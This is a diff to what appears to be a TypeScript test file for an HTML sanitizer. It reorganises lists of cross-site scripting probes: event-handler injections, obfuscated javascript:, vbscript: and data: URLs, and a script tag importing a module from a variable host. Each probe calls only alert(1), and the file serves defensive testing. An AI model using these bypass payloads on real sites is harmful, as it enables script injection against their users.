@@ -30,65 +30,23 @@ const plain = [
   `<script>import('${there}/m.js')</script>`,
 ];
 
-const handlers = [
-  ...['img src=x onerror', 'img src onerror', 'image src=x onerror', 'body onload', 'svg onload'],
-  ...[
-    'svg/onload',
-    'svg\nonload',
-    'iframe onload',
-    'input autofocus onfocus',
-    'select autofocus onfocus',
-  ],
-  ...[
-    'textarea autofocus onfocus',
-    'keygen autofocus onfocus',
-    'video src=x onerror',
-    'audio src=x onerror',
-  ],
-  ...[
-    'video onloadstart src=x',
-    'object data=x onerror',
-    'embed src=x onerror',
-    'link rel=stylesheet href=x onerror',
-  ],
-  ...[
-    'details open ontoggle',
-    'marquee onstart',
-    'marquee loop=1 width=0 onfinish',
-    'body onpageshow',
-    'frameset onload',
-  ],
-  ...[
-    'style onload',
-    'script src=x onerror',
-    'video autoplay onloadstart',
-    'button autofocus onfocus',
-  ],
-  ...[
-    'p onpointerenter',
-    'a href=# onclick',
-    'p onmouseover',
-    'strong onmouseenter',
-    'li onwheel',
-    'blockquote oncopy',
-  ],
-  ...[
-    'div contenteditable autofocus onfocus',
-    'a id=x tabindex=1 autofocus onfocus',
-    'dialog open onclose',
-  ],
-  ...[
-    'p style="animation:x" onanimationstart',
-    'p onbeforematch hidden=until-found',
-    'img srcset=x onerror',
-  ],
-  ...[
-    'img loading=lazy src=x onerror',
-    'input type=image src=x onerror',
-    'source onerror',
-    'track onerror',
-  ],
-].flatMap((start) => [`<${start}=alert(1)>`, `<${start}="alert(1)" x=">`]);
+/** Several to a line, apart by a bar. */
+const apart = (lines: string[]) => lines.flatMap((line) => line.split(' | '));
+
+const handlers = apart([
+  'img src=x onerror | img src onerror | image src=x onerror | body onload | svg onload | svg/onload',
+  'svg\nonload | iframe onload | input autofocus onfocus | select autofocus onfocus',
+  'textarea autofocus onfocus | keygen autofocus onfocus | video src=x onerror | audio src=x onerror',
+  'video onloadstart src=x | object data=x onerror | embed src=x onerror',
+  'link rel=stylesheet href=x onerror | details open ontoggle | marquee onstart',
+  'marquee loop=1 width=0 onfinish | body onpageshow | frameset onload | style onload',
+  'script src=x onerror | video autoplay onloadstart | button autofocus onfocus | p onpointerenter',
+  'a href=# onclick | p onmouseover | strong onmouseenter | li onwheel | blockquote oncopy',
+  'div contenteditable autofocus onfocus | a id=x tabindex=1 autofocus onfocus | dialog open onclose',
+  'p style="animation:x" onanimationstart | p onbeforematch hidden=until-found',
+  'img srcset=x onerror | img loading=lazy src=x onerror | input type=image src=x onerror',
+  'source onerror | track onerror',
+]).flatMap((start) => [`<${start}=alert(1)>`, `<${start}="alert(1)" x=">`]);
 
 const spelled = [
   `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>`,
@@ -132,49 +90,18 @@ const spelled = [
   `<% <img src=x onerror=alert(1)> %>`,
 ];
 
-const schemes = [
-  ...[
-    'javascript:alert(1)',
-    'JaVaScRiPt:alert(1)',
-    ' javascript:alert(1)',
-    '\u0001javascript:alert(1)',
-  ],
-  ...[
-    'java\tscript:alert(1)',
-    'java\nscript:alert(1)',
-    'java\rscript:alert(1)',
-    'javascript\t:alert(1)',
-  ],
-  ...[
-    '&#106;avascript:alert(1)',
-    'javascript&colon;alert(1)',
-    'javascript&#58;alert(1)',
-    'java&Tab;script:alert(1)',
-  ],
-  ...['java&NewLine;script:alert(1)', '&#x6A;&#x61;vascript:alert(1)', 'javascript&#x3A;alert(1)'],
-  ...[
-    'javascript://%0aalert(1)',
-    'javascript:%61lert(1)',
-    'vbscript:msgbox(1)',
-    'livescript:alert(1)',
-  ],
-  ...[
-    'data:text/html,<script>alert(1)</script>',
-    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
-  ],
-  ...[
-    'data:image/svg+xml,<svg onload=alert(1)>',
-    'blob:x',
-    'view-source:javascript:alert(1)',
-    'feed:javascript:alert(1)',
-  ],
-  ...[
-    '\ufeffjavascript:alert(1)',
-    '\u200bjavascript:alert(1)',
-    'http://x" onmouseover="alert(1)',
-    '//x/"><script>alert(1)</script>',
-  ],
-];
+const schemes = apart([
+  'javascript:alert(1) | JaVaScRiPt:alert(1) |  javascript:alert(1) | \u0001javascript:alert(1)',
+  'java\tscript:alert(1) | java\nscript:alert(1) | java\rscript:alert(1) | javascript\t:alert(1)',
+  '&#106;avascript:alert(1) | javascript&colon;alert(1) | javascript&#58;alert(1)',
+  'java&Tab;script:alert(1) | java&NewLine;script:alert(1) | &#x6A;&#x61;vascript:alert(1)',
+  'javascript&#x3A;alert(1) | javascript://%0aalert(1) | javascript:%61lert(1) | vbscript:msgbox(1)',
+  'livescript:alert(1) | data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data:image/svg+xml,<svg onload=alert(1)> | blob:x | view-source:javascript:alert(1)',
+  'feed:javascript:alert(1) | \ufeffjavascript:alert(1) | \u200bjavascript:alert(1)',
+  'http://x" onmouseover="alert(1) | //x/"><script>alert(1)</script>',
+]);
 
 const inSchemes = schemes.flatMap((address) => [
   `<a href="${address}">x</a>`,
